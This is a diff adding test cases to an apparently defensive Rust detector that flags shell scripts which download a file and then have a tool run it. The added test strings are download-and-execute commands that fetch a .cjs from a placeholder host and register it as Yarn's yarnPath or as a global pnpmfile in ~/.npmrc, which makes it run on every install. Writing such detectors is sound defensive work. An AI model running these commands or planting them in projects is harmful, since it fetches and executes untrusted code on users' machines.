@@ -252,6 +252,14 @@ fn a_download_run_later_is_found() {
     assert_eq!(download_then_run(one, 3), Some((3, 3)));
     let read = "curl -s https://x.invalid/d.json -o /tmp/d.json && jq . /tmp/d.json\n";
     assert_eq!(download_then_run(read, 3), None);
+    // A download a tool's setting then names as what it runs: Yarn itself, a pnpmfile for every install.
+    let yarn = "curl -fsSL https://x.invalid/yarn-4.1.0.cjs -o .yarn/releases/yarn-4.1.0.cjs\necho 'yarnPath: .yarn/releases/yarn-4.1.0.cjs' >> .yarnrc.yml\n";
+    assert_eq!(download_then_run(yarn, 1), Some((1, 2)));
+    let pnpm = "curl -fsSL https://x.invalid/p.cjs -o ~/.pnpmfile.cjs\necho \"global-pnpmfile=$HOME/.pnpmfile.cjs\" >> ~/.npmrc\n";
+    assert_eq!(download_then_run(pnpm, 1), Some((1, 2)));
+    // A setting naming another file runs nothing downloaded here.
+    let other = "curl -fsSL https://x.invalid/data.json -o data.json\necho 'yarnPath: .yarn/releases/yarn-4.1.0.cjs' >> .yarnrc.yml\n";
+    assert_eq!(download_then_run(other, 1), None);
 }
 
 #[test]
